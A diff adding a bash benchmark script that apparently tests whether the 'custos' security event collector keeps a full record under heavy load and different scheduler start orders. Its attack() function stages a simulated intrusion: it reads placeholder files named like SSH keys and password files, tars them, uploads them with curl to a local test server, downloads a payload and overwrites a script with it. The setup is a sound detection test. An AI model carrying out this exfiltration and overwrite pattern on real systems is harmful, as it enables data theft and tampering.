@@ -1,0 +1,122 @@
+#!/usr/bin/env bash
+# Runs inside the VM (bench/reliability/run.py starts it), one vCPU.
+#
+#   attack      a scripted attack (read four secrets, tar them, upload the
+#               archive over HTTP, download a script, overwrite another with
+#               it) during a `find -exec cat` flood, under `custos sched`
+#   skips       the same flood under the default scheduler, which loses
+#               syscalls to skips: are they all in the loss records?
+#   sched-first / collector-first / restart
+#               the start orders of scheduler and collector (restart: the
+#               collector is stopped and started again under the running
+#               scheduler), each then under the flood
+#
+# Every run writes OUT/<name>.jsonl (the stream) and OUT/<name>.json
+# (produced, dropped, unnumbered, marker, sched_ext state).
+# Environment: CUSTOS_BIN, OUT, WORKERS (16), FILES (4000), RING_KB (64).
+set -u
+bin=${CUSTOS_BIN:?} out=${OUT:?}
+workers=${WORKERS:-16} files=${FILES:-4000} ring_kb=${RING_KB:-64}
+work=/tmp/reliability
+mkdir -p "$out" "$work"
+"$bin/custos-workload" tree "$work/tree" --files "$files" >/dev/null
+
+until_true() { # condition, tenths of a second
+  for _ in $(seq "$2"); do eval "$1" && return 0; sleep 0.1; done
+  return 1
+}
+
+# The collector runs a command that marks when it is attached and ends when
+# told: stopping it is the command's exit.
+collector=
+start_collector() { # name
+  rm -f "$work/attached" "$work/detach"
+  "$bin/custos" collect -o "$out/$1.jsonl" --events-ring-kb "$ring_kb" --attrs-ring-kb "$ring_kb" \
+    --critical-ring-kb "$ring_kb" --stats-interval 0 -- \
+    sh -c "touch $work/attached; until [ -e $work/detach ]; do sleep 0.1; done" 2>>"$out/$1.collect.log" &
+  collector=$!
+  until_true "[ -e $work/attached ]" 300 || { echo "collector did not attach" >&2; cat "$out/$1.collect.log" >&2; exit 1; }
+}
+stop_collector() {
+  touch "$work/detach"; wait "$collector"
+}
+
+sched=
+start_sched() { # name
+  "$bin/custos" sched >"$out/$1.sched.log" 2>&1 &
+  sched=$!
+  until_true '[ "$(cat /sys/kernel/sched_ext/state)" = enabled ]' 300 || { echo "scheduler did not attach" >&2; cat "$out/$1.sched.log" >&2; exit 1; }
+}
+stop_sched() {
+  kill -INT "$sched"; wait "$sched"
+}
+
+# The attack, run by a shell of its own while the flood runs.
+attack() {
+  local d=$work/victim
+  rm -rf "$d"; mkdir -p "$d/secrets"
+  for s in id_rsa shadow db.conf wallet; do echo "secret $s" >"$d/secrets/$s"; done
+  echo 'echo maintenance' >"$d/maintenance.sh"
+  /usr/bin/python3 "$work/server.py" "$d/port" "$d/received.bin" &
+  local server=$!
+  until_true "[ -e $d/port ]" 100
+  local port; port=$(cat "$d/port")
+  (
+    cd "$d" || exit 1
+    cat secrets/id_rsa secrets/shadow secrets/db.conf secrets/wallet >/dev/null
+    tar cf archive.tar secrets
+    curl -sf -H 'Expect:' -T archive.tar "http://127.0.0.1:$port/upload"
+    curl -sf -o download.sh "http://127.0.0.1:$port/payload"
+    cp download.sh maintenance.sh
+  )
+  wait "$server"
+  echo "$port" >"$out/attack.port"
+}
+
+flood() { # name [attack]
+  local pids=() start end
+  start=$(date +%s%N)
+  for _ in $(seq "$workers"); do
+    find "$work/tree" -type f -exec cat {} + >/dev/null & pids+=($!)
+  done
+  (sleep 1; exec /bin/sh -c "echo marker > $work/marker") & pids+=($!)
+  if [ "${2:-}" = attack ]; then (sleep 2; attack) & pids+=($!); fi
+  wait "${pids[@]}"
+  end=$(date +%s%N)
+  printf '{"name":"%s","workers":%s,"runtime_ms":%s,"sched_ext_state":"%s"}\n' \
+    "$1" "$workers" "$(( (end - start) / 1000000 ))" "$(cat /sys/kernel/sched_ext/state)" >"$out/$1.json"
+}
+
+rm -rf /sys/fs/bpf/custos
+cp "$(dirname "$0")/../../crates/custos/tests/fixtures/http_server.py" "$work/server.py"
+
+echo "attack: the scripted attack during the flood, under custos sched" >&2
+start_collector attack; start_sched attack
+flood attack attack
+stop_sched; stop_collector
+
+echo "skips: the flood under the default scheduler" >&2
+start_collector skips
+flood skips
+stop_collector
+
+echo "sched-first: scheduler, then collector" >&2
+rm -rf /sys/fs/bpf/custos
+start_sched sched-first; sleep 3; start_collector sched-first
+flood sched-first
+stop_collector; stop_sched
+
+echo "collector-first: collector, then scheduler" >&2
+rm -rf /sys/fs/bpf/custos
+start_collector collector-first; sleep 3; start_sched collector-first
+flood collector-first
+stop_sched; stop_collector
+
+echo "restart: the collector restarted under the running scheduler" >&2
+rm -rf /sys/fs/bpf/custos
+start_collector restart-before; start_sched restart
+sleep 2; stop_collector; sleep 1
+start_collector restart
+flood restart
+stop_sched; stop_collector
+echo done >&2
